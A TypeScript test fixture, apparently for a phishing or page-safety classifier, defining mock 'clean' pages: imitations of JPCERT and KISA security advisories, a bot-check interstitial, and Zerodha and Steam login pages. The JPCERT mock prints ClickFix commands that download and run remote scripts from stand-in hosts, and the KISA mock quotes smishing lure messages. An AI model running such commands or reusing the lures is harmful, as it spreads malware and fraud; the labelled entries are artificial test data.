import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footer } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-clean-jpcert-clickfix-advisory',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://blogs.jpcert.or.jp/ja/2025/11/clickfix-fake-captcha.html',
  body: doc({
    lang: 'ja',
    title: '偽のCAPTCHA認証を悪用したマルウェア感染手口（ClickFix）について - JPCERT/CC Eyes',
    css: 'article{max-width:780px;margin:30px auto;background:#fff;padding:30px}pre{background:#1e1e1e;color:#ddd;padding:12px;overflow:auto;font-size:13px}',
    body: `<header class="top"><div class="wrap"><b>JPCERT/CC Eyes</b><span>JPCERTコーディネーションセンター公式ブログ</span></div></header>
<article><h1>偽のCAPTCHA認証を悪用したマルウェア感染手口（ClickFix）について</h1><p>2025年11月 · インシデントレスポンスグループ</p>
<p>JPCERT/CCでは、改ざんされた国内の正規Webサイトで「私はロボットではありません」と表示し、利用者にWindows + R キー、Ctrl + V キー、Enter キーを順に押すよう促す手口を確認しています。ボタンをクリックした時点でクリップボードには次のようなコマンドが書き込まれています。</p>
<pre>powershell -w h -nop -c "$u='hxxps://cdn-verify[.]example[.]com/c.ps1';iex (iwr $u -UseBasicParsing).Content" # ✅ I am not a robot - reCAPTCHA ID: 7721</pre>
<p>また、Mac利用者に対してはターミナルへの貼り付けを促し、以下のようなシェルスクリプトを実行させる例もあります。</p>
<pre>/bin/bash -c "$(curl -fsSL hxxps://example[.]vip/xm/install.sh)"</pre>
<h2>対策</h2><ul><li>Webサイトの指示で「ファイル名を指定して実行」やターミナルにコマンドを貼り付けないでください。</li><li>グループポリシーで Win+R の実行ダイアログを無効化することも検討してください。</li><li>EDRでmshta.exe、powershell.exeの不審な子プロセスを監視してください。</li></ul>
<h2>IoC</h2><pre>cdn-verify[.]example[.]com
hwp-font-update[.]example[.]com/fonts/update.hta</pre></article>`,
  }),
},
{
  id: 'zr-clean-kisa-smishing-advisory',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://www.boho.or.kr/kr/bbs/view.do?bbsId=B0000133&nttId=71822&menuNo=205020',
  body: doc({
    lang: 'ko',
    title: '택배·부고장·청첩장 사칭 스미싱 주의 권고 | KISA 보호나라',
    css: 'article{max-width:820px;margin:30px auto;background:#fff;padding:30px}.q{background:#f5f5f5;border-left:4px solid #c00;padding:12px;font-family:monospace;font-size:13px}',
    body: `<header class="top"><div class="wrap"><b>KISA 보호나라&amp;KrCERT/CC</b><span>보안공지</span></div></header>
<article><h1>택배·부고장·청첩장 사칭 스미싱 주의 권고</h1><p>작성일 2025-11-21</p>
<p>최근 택배 주소지 확인, 국민건강보험 환급금, 부고장·청첩장을 사칭하여 악성 앱 설치를 유도하는 문자가 급증하고 있습니다. 주요 문자 내용은 다음과 같습니다.</p>
<div class="q">[Web발신] 고객님의 택배가 주소불명으로 보관중입니다. 주소지 확인 바랍니다. hxxps://coupang-event[.]kr-delivery[.]shop</div><br>
<div class="q">[국민건강보험] 건강보험료 과오납 환급금 264,300원 조회 hxxps://nhis-refund[.]or-kr[.]vip</div><br>
<div class="q">[경찰청] 귀하의 명의가 범죄에 도용되었습니다. 보안 앱 설치: hxxps://police-go-kr[.]safe-app[.]info</div>
<h2>예방 수칙</h2><ul><li>출처가 불분명한 URL은 클릭하지 마세요.</li><li>스마트폰 보안 설정에서 '출처를 알 수 없는 앱' 설치를 차단하세요.</li><li>스미싱 의심 문자는 118 또는 보호나라 홈페이지로 신고하세요.</li></ul></article>`,
  }),
},
{
  id: 'zr-clean-legit-bot-check-interstitial',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://www.dcard.tw/f/trending',
  body: doc({
    lang: 'zh-Hant',
    title: '請稍候…',
    css: 'body{background:#fff}.m{max-width:600px;margin:100px auto;padding:0 20px}.w{border:1px solid #e0e0e0;background:#fafafa;padding:14px;width:300px;display:flex;align-items:center;gap:10px}',
    body: `<div class="m"><h1 style="font-weight:500">www.dcard.tw</h1><h2 style="font-weight:400;font-size:18px">正在驗證您是否是人類。這可能需要幾秒鐘時間。</h2>
<div class="w" id="cf"><div style="width:22px;height:22px;border:3px solid #ccc;border-top-color:#f38020;border-radius:50%;animation:s 1s linear infinite"></div><span>驗證中…</span></div><style>@keyframes s{to{transform:rotate(360deg)}}</style>
<p style="font-size:13px;color:#555">www.dcard.tw 需要先檢查您的連線的安全性，然後才能繼續。</p><p style="font-size:11px;color:#999">Ray ID: 8f2c1d7a9b3e40f2 · 效能與安全性由 Cloudflare 提供</p></div>
<script>setTimeout(function(){document.getElementById('cf').innerHTML='<span style="color:#2a7">✔ 成功！</span>';setTimeout(function(){location.replace('/f')},800)},2500)</script>`,
  }),
  routes: {
    'www.dcard.tw/f': htmlRoute(doc({ lang: 'zh-Hant', title: '熱門 | Dcard', body: '<div class="wrap"><h1>熱門文章</h1><ul><li>有人也覺得今年冬天特別冷嗎</li><li>台北 CP 值高的拉麵推薦</li><li>轉職軟體工程師心得分享</li></ul></div>' })),
  },
},
{
  id: 'zr-clean-zerodha-investment-own',
  label: 'clean',
  kind: 'legit-investment',
  url: 'https://zerodha.com/open-account',
  body: doc({
    lang: 'en',
    title: 'Open a free demat and trading account online | Zerodha',
    css: '.hero{padding:50px 20px;text-align:center}.b{background:#387ed1;color:#fff}.fine{font-size:11px;color:#888;max-width:900px;margin:30px auto}',
    body: `<header class="top"><div class="wrap"><b style="color:#387ed1">ZERODHA</b><span>Signup · About · Products · Pricing · Support</span></div></header>
<div class="hero"><h1>Open a free demat and trading account online</h1><p>Start investing brokerage free and join a community of 1.6+ crore investors and traders</p>
<form action="https://signup.zerodha.com/" method="get" style="max-width:360px;margin:auto"><input type="tel" name="mobile" placeholder="Enter your mobile number"><p><button class="btn b">Get OTP</button></p></form></div>
<div class="fine">Zerodha Broking Ltd.: Member of NSE, BSE & MCX – SEBI Registration no.: INZ000031633. Investments in securities market are subject to market risks; read all the related documents carefully before investing. Prevent unauthorised transactions in your account. Update your mobile numbers/email IDs with your stock brokers. Receive information of your transactions directly from Exchange on your mobile/email at the end of the day.</div>`,
  }),
},
{
  id: 'zr-clean-steam-login-own',
  label: 'clean',
  kind: 'game-login-own-domain',
  url: 'https://store.steampowered.com/login/?redir=&redir_ssl=1?s=2',
  body: doc({
    lang: 'en',
    title: 'Sign In',
    css: 'body{background:#1b2838;color:#c7d5e0}.m{max-width:700px;margin:60px auto;background:#181a21;padding:30px;display:flex;gap:30px;border-radius:4px}.g{background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;width:100%}input{background:#32353c!important;color:#fff;border:0!important}',
    body: `<div class="m"><div style="flex:1"><div style="color:#1999ff;font-size:12px">SIGN IN WITH ACCOUNT NAME</div><form method="post" action="/login/dologin/"><input type="text" name="username"><label style="color:#afafaf">PASSWORD</label><input type="password" name="password"><p><label style="display:inline;color:#afafaf"><input type="checkbox"> Remember me</label></p><button class="btn g">Sign in</button></form><p><a href="https://help.steampowered.com/wizard/HelpWithLogin" style="color:#afafaf">Help, I can't sign in</a></p></div>
<div style="flex:1;text-align:center"><div style="color:#1999ff;font-size:12px">OR SIGN IN WITH QR</div><div style="width:180px;height:180px;margin:10px auto;background:repeating-linear-gradient(90deg,#fff 0 5px,#000 5px 10px)"></div><p style="font-size:12px">Use the Steam Mobile App to sign in via QR code</p></div></div>`,
  }),
},
];
